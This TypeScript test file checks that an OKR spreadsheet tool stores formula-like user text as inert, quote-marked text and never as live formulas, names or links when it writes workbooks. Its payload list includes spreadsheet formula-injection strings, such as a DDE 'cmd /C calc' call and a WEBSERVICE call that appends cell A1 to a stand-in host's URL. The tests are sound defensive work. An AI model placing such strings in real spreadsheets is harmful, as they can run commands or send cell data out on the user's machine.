import { openPackage, readWorkbook } from "../../src/adapters/opc";
import { unescapeCellText, unescapeXml } from "../../src/adapters/opc/xml-text";
import type { Dialect } from "../../src/core/formula";
import type { GridTable, SheetGrid, WorkbookGrid } from "../../src/core/grid";
import { checkInWords, okrSheetWords, reviewSheetWords, type Language } from "../../src/core/language";
import { parseState } from "../../src/workbook/state-text";
import { checkInTask, generateTask, readOwnOkrs, reviewTask, type TaskOutcome } from "../../src/workbook/tasks";
import type { WorkbookChange } from "../../src/workbook/workbook-change";
import { applied } from "../support/applied";
import { OpcPort } from "../support/opc-port";
import { EMPTY_WORKBOOK, gridOf, memorySheet } from "../support/memory-workbook";
import { writtenWorkbook } from "../support/written-workbook";

// Texts of the user's in every field that we write again, looked for in every part of what we write. Each of them has the
// word "zq" outside of all quotes, which stands nowhere else: in a formula it may be within a literal text, or a sheet's name.

const MARK = /zq/i;

const PAYLOADS: readonly string[] = [
  "=zq1+1", "+zq1", "-zq1+3", "@zqSUM(1)", "\t=zq1", "\r=zq1", "\n=zq1", "a\n=zq1", "＝zq1+1", "＋zq1", "－zq1", "＠zq1",
  "=zqcmd|'/C calc'!A0", "=zqHYPERLINK(\"http://zq.example\",\"zq\")", "=zqWEBSERVICE(\"http://zq.example/\"&A1)", "=zqIMPORTXML(\"http://zq.example\",\"//a\")",
  "=zqDDE(\"cmd\",\"/C calc\",\"zq\")", "'=zq1", "''=zq", "zq\"&A1&\"", "zq\",A1,\"", "\"=zq\"", "zq';A1;'", "zq]&A1&[", "[@zq]", "zq#All", "{=zq}", "zq!A1", "zq&A1", "zq%0A=1",
  "_x0041_zq", "_x003D_zq", "zq_x000D_=1", "zq\u0001\u001b[2J", "zq\u0000=1", "<f>zq</f>", "zq]]>&lt;f&gt;", "=zq\ud800", "zq\u202e=1", "__proto__ zq", "zq{0}%s$1",
];

const SHEETS: readonly string[] = ["=zq+1", "zq's \"&A1&\" tab", "@zq,(A1)"];
const HEADERS = ["Perspective", "Strategic objective", "KPI", "Definition", "Unit", "Owner", "Department", "Initiative", "Status", "Baseline", "Target", "Actual", "Weight", "=zqheader+1", "@zq Remarks"];

/** A scorecard in which every text is one of these, on sheets with such names. The last rows have no numbers: they are left out. */
function scorecard(payloads: readonly string[]): Uint8Array {
  const plans = SHEETS.map((name, sheet) => {
    const rows = payloads.flatMap((text, index) => (index % SHEETS.length === sheet ?
      [[text, text, `${text} ${index}`, text, text, text, text, text, text, 10, 20 + index, index % 2 === 0 ? 15 : "15 zq\"&A1&\"", 0.1, text, text]] : []));
    const leftOut = ["o", "o", `${payloads[sheet] ?? ""} left out`, null, null, null, null, null, null, null, payloads[sheet] ?? null, null, null, null, null];
    return { key: name, name, columnWidths: {}, tables: [], blocks: [{ top: 0, left: 0, cells: [HEADERS, ...rows, leftOut].map((row) => row.map((value) => ({ value }))) }] };
  });
  return writtenWorkbook(plans).bytes;
}

const GENERATED = "2027-06-01";
const REVIEWED = "2027-06-30";
const NEXT = "2027-08-31";

/** The package after all commands have been through it, in two cycles: the second review copies the actions of the first. */
async function finished(dialect: Dialect, language: Language, payloads: readonly string[]): Promise<Uint8Array> {
  const port = new OpcPort(scorecard(payloads));
  const options = { dialect, language };
  await run(port, (grid) => generateTask(grid, { ...options, cycle: "FY2027-Q2", asOf: GENERATED }));
  const updates = updatesFor(await read(port), payloads);
  await run(port, (grid) => checkInTask(grid, updates, { asOf: GENERATED }));
  await run(port, (grid) => reviewTask(grid, { ...options, cycle: "FY2027-Q2", asOf: REVIEWED }));
  port.bytes = applied(port.bytes, typedActions(await read(port), language, payloads), dialect);
  await run(port, (grid) => generateTask(grid, { ...options, cycle: "FY2027-Q3", asOf: NEXT }));
  await run(port, (grid) => reviewTask(grid, { ...options, cycle: "FY2027-Q3", asOf: NEXT }));
  return port.bytes;
}

async function run(port: OpcPort, task: (grid: WorkbookGrid) => TaskOutcome<unknown>): Promise<void> {
  const { change, precondition, dialect, summary, issues } = task(await read(port));
  if (summary === null) throw new Error(issues.map(({ code }) => code).join(", "));
  const outcome = await port.apply(change, precondition, { dialect });
  expect(outcome).toMatchObject({ applied: true, changed: true });
}

async function read(port: OpcPort): Promise<WorkbookGrid> {
  const { grid } = await port.read();
  if (grid === null) throw new Error("the workbook cannot be read");
  return grid;
}

/** What people wrote into the improvement plan of the first review. */
function typedActions(grid: WorkbookGrid, language: Language, payloads: readonly string[]): Partial<WorkbookChange> {
  const words = reviewSheetWords(language).actions;
  const { sheet, table } = tableOf(grid, "OKR_Actions_FY2027_Q2");
  const rows = Array.from({ length: table.area.bottom - table.area.top }, (_, index) => table.area.top + 1 + index);
  const cells = rows.flatMap((row, index) => [words.action, words.owner].map((title) =>
    ({ row, column: table.area.left + table.columns.indexOf(title), cell: { value: payloads[index % payloads.length] ?? null } })));
  return { editSheets: [{ sheet: sheet.name, cells, tables: [] }] };
}

function tableOf(grid: WorkbookGrid, name: string): { readonly sheet: SheetGrid; readonly table: GridTable } {
  for (const sheet of grid.sheets) for (const table of sheet.tables) if (table.name === name) return { sheet, table };
  throw new Error(`no table ${name}`);
}

/** Check-ins with each text as note and author; the key results are called by their texts. */
function updatesFor(grid: WorkbookGrid, payloads: readonly string[]): SheetGrid {
  const keyResults = readOwnOkrs(grid, parseState(grid.state).state, "FY2027-Q2")?.keyResults ?? [];
  const rows = payloads.map((note, index) => {
    const kr = keyResults[index % keyResults.length];
    return [GENERATED, kr?.text ?? "", kr?.id ?? "", 16, note, note];
  });
  const sheet = memorySheet("zq=updates", [["Date", "Key result", "Key result id", "Value", "Note", "By"]]);
  const cells = new Map(sheet.cells);
  rows.forEach((row, down) => { row.forEach((value, right) => { cells.set(`${"ABCDEF"[right] ?? ""}${down + 2}`, { value }); }); });
  const [updates] = gridOf({ ...EMPTY_WORKBOOK, sheets: [{ ...sheet, cells }] }).sheets;
  if (updates === undefined) throw new Error("no updates");
  return updates;
}

/** What a formula consists of besides literal texts and the names of sheets that there are. */
function bare(formula: string, sheets: ReadonlySet<string>): string {
  return formula.replace(/"(?:[^"]|"")*"|'((?:[^']|'')*)'!/g, (whole, name?: string) => (name !== undefined && !sheets.has(name.replaceAll("''", "'")) ? whole : "_"));
}

interface StoredCell { readonly at: string; readonly type: string; readonly style: number; readonly formula: string | null; readonly text: string }

function storedCells(xml: string): readonly StoredCell[] {
  return [...xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, at = "", attributes = "", inner = ""]) => ({
    at,
    type: /\bt="(\w+)"/.exec(attributes)?.[1] ?? "",
    style: Number(/\bs="(\d+)"/.exec(attributes)?.[1] ?? 0),
    formula: /<f[^>]*>(.*?)<\/f>/s.exec(inner)?.[1] ?? null,
    text: unescapeCellText(unescapeXml(/<(?:t|v)(?: [^>]*)?>(.*?)<\/(?:t|v)>/s.exec(inner)?.[1] ?? "")),
  }));
}

/** True for each style that marks its cells as text. */
function quoteMarks(styles: string): readonly boolean[] {
  const formats = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? "";
  return [...formats.matchAll(/<xf\b[^>]*>/g)].map(([xf]) => xf.includes('quotePrefix="1"'));
}

/** Elements whose text a spreadsheet program calculates. */
const FORMULA = /<(?:\w+:)?(f|formula|formula1|formula2|calculatedColumnFormula|totalsRowFormula|definedName)\b[^>]*>([^<]*)</g;
/** Attributes that name things for formulas, lead somewhere, or are a small language of their own. */
const ATTRIBUTE = /<(?:tableColumn|table|hyperlink|numFmt)\b[^>]*?\b(name|displayName|location|formatCode)="([^"]*)"/g;
const MAY_BECOME_FORMULA = /^[=+\-@\t\r\n'＝＋－＠]/;
const normal = (kept: string): string => kept.replace(/\s+/g, " ").trim();

const BACKWARDS = [...PAYLOADS].reverse();

/** Every pair. OKRs are made of the first measures: going backwards they are made of others. */
const VARIANTS: readonly (readonly [Language, Dialect, readonly string[]])[] = [
  ["en", "functions", PAYLOADS], ["en", "plain", BACKWARDS], ["zh", "functions", BACKWARDS], ["zh", "plain", PAYLOADS],
];

describe.each(VARIANTS)("texts that look like formulas, sheets in %s, formulas %s", (language, dialect, payloads) => {
  let parts: ReadonlyMap<string, string> = new Map();
  let grid: WorkbookGrid;

  beforeAll(async () => {
    const bytes = await finished(dialect, language, payloads);
    const file = openPackage(bytes, "book.xlsx");
    parts = new Map(file.entries.map(({ name }) => [name, new TextDecoder().decode(file.read(name))]));
    const reading = readWorkbook(bytes, "book.xlsx");
    if (!reading.ok) throw new Error(reading.issue.code);
    grid = reading.value.grid;
  });

  test("are part of no formula, rule, list or name", () => {
    const sheets = new Set(grid.sheets.map(({ name }) => name));
    const formulas = [...parts].filter(([name]) => name.endsWith(".xml")).flatMap(([name, xml]) => [...xml.matchAll(FORMULA)].map(([, kind = "", formula = ""]) => ({ name, kind, formula: unescapeXml(formula) })));
    expect(formulas.length).toBeGreaterThan(500);
    // The search finds what it looks for: literal texts and names of sheets are there.
    expect(formulas.filter(({ formula }) => MARK.test(formula)).length).toBeGreaterThan(50);
    expect(formulas.filter(({ formula }) => MARK.test(bare(formula, sheets)))).toEqual([]);
  });

  test("are typed texts, marked as such where they could become formulas", () => {
    const marks = quoteMarks(parts.get("xl/styles.xml") ?? "");
    const cells = [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name)).flatMap(([name, xml]) => storedCells(xml).map((cell) => ({ ...cell, name }))).filter(({ text: shown }) => MARK.test(shown));
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * 10);
    expect(cells.filter(({ formula, type }) => type !== (formula === null ? "inlineStr" : "str"))).toEqual([]);
    const typed = cells.filter(({ formula }) => formula === null);
    const dangerous = typed.filter(({ text: shown }) => MAY_BECOME_FORMULA.test(shown));
    expect(dangerous.length).toBeGreaterThan(PAYLOADS.length);
    expect(dangerous.filter(({ style }) => marks[style] !== true)).toEqual([]);
  });

  test("are in no name of a table or column, nor in a link or number format but as a literal", () => {
    const sheets = new Set(grid.sheets.map(({ name }) => name));
    const attributes = [...parts].flatMap(([name, xml]) => [...xml.matchAll(ATTRIBUTE)].map(([, kind = "", value = ""]) => ({ name, kind, value: unescapeXml(value) })));
    expect(attributes.length).toBeGreaterThan(100);
    expect(attributes.filter(({ kind, value }) => MARK.test(kind === "location" || kind === "formatCode" ? bare(value, sheets) : value))).toEqual([]);
  });

  test("stand as they are in every column of ours that takes over a text", () => {
    const [words, checkIns] = [okrSheetWords(language), checkInWords(language).headers];
    const shown = (table: string, title: string): readonly string[] => textsIn(grid, table, title).map(normal);
    const missing = (table: string, title: string): readonly string[] => PAYLOADS.filter((payload) => !shown(table, title).some((one) => one.includes(normal(payload))));
    const { name, perspective, objective, unit, owner } = words.scorecard.headers;
    for (const title of [name, perspective, objective, unit, owner]) expect([title, missing("OKR_Scorecard", title)]).toEqual([title, []]);
    for (const title of [checkIns.note, checkIns.by]) expect([title, missing("OKR_CheckIns", title)]).toEqual([title, []]);
    const actions = reviewSheetWords(language).actions;
    for (const title of [actions.action, actions.owner]) expect(shown("OKR_Actions_FY2027_Q3", title).filter((one) => MARK.test(one))).not.toEqual([]);
    const keyResults = shown("OKR_KeyResults_FY2027_Q2", words.keyResults.text);
    expect(keyResults.filter((one) => !PAYLOADS.some((payload) => one.includes(normal(payload))))).toEqual([]);
    expect(shown("OKR_LeftOut", words.leftOut.headers.name).filter((one) => MARK.test(one))).not.toEqual([]);
  });
});

function textsIn(grid: WorkbookGrid, name: string, title: string): readonly string[] {
  const { sheet, table: { area, columns } } = tableOf(grid, name);
  if (!columns.includes(title)) throw new Error(`no column ${title} in ${name}; there are ${columns.join(", ")}`);
  return Array.from({ length: area.bottom - area.top }, (_, index) => sheet.text(area.top + 1 + index, area.left + columns.indexOf(title)));
}
